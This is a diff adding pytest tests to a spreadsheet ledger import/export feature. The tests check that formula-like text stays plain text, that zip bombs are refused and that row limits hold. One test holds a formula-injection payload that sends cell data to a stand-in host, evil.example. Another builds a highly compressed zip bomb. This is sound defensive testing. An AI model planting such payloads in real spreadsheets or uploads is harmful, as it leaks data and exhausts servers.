@@ -2,6 +2,7 @@
 the round trip between them."""
 
 import io
+import zipfile
 from datetime import UTC, date, datetime
 
 import pytest
@@ -9,6 +10,7 @@ from openpyxl import Workbook, load_workbook
 from sqlmodel import Session, col, select
 
 from backend.core import clock
+from backend.rectification import sheets
 from backend.rectification.models import Problem
 from tests import factories as f
 from tests.rectification.conftest import HUISHI, Api, People, auth, rows
@@ -261,3 +263,54 @@ def test_a_word_document_is_not_a_spreadsheet(api: Api, people: People) -> None:
     batch = api.batch(people.township)
     r = _import(api, people.township, batch["id"], out.getvalue())
     assert r.status_code == 422 and r.json()["detail"][0]["field"] == "file"
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_ledger(
+    api: Api, people: People, session: Session
+) -> None:
+    batch = api.batch(people.township)
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    api.problem(people.township, batch["id"], title=trap, responsible_person="=1+1")
+    r = api.get(people.township, f"/problem-batches/{batch['id']}/ledger")
+    assert r.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
+    # Written as inline strings (t="inlineStr"), never as <f> formula elements.
+    assert "<f>" not in sheet_xml and "<is><t>=HYPERLINK(" in sheet_xml
+    ws = load_workbook(io.BytesIO(r.content)).active
+    header = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(header, ws[2], strict=True)}
+    assert row["问题标题"].value == trap and row["问题标题"].data_type == "s"
+    assert row["责任人"].value == "=1+1" and row["责任人"].data_type == "s"
+    # And it imports back as the same text.
+    again = api.batch(people.township, title="复制的清单")
+    assert _import(api, people.township, again["id"], r.content).status_code == 200
+    titles = rows(session, select(Problem.title).where(Problem.title == trap))
+    assert len(titles) == 2
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(
+    api: Api, people: People, session: Session
+) -> None:
+    batch = api.batch(people.township)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", "<Types/>")
+        # 20 MB of one letter packs into about 20 KB: 1000:1.
+        z.writestr("xl/sharedStrings.xml", b"<sst>" + b"a" * 20_000_000 + b"</sst>")
+    assert len(out.getvalue()) < 100_000
+    r = _import(api, people.township, batch["id"], out.getvalue())
+    assert r.status_code == 422 and r.json()["detail"][0]["field"] == "file"
+    assert "解压后过大" in r.json()["message"]
+    assert rows(session, select(Problem)) == []
+
+
+def test_more_rows_than_allowed_are_refused_whole(
+    api: Api, people: People, session: Session, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(sheets, "MAX_ROWS", 2)
+    batch = api.batch(people.township)
+    line = ["高家庄村", "台账不规范。", None, "2023-09-15", "台账资料", "高宏伟", "高家庄村委会"]
+    r = _import(api, people.township, batch["id"], xlsx(HEADER, line, line, line), "partial")
+    assert r.status_code == 422 and "最多导入 2 行" in r.json()["message"]
+    assert rows(session, select(Problem)) == []
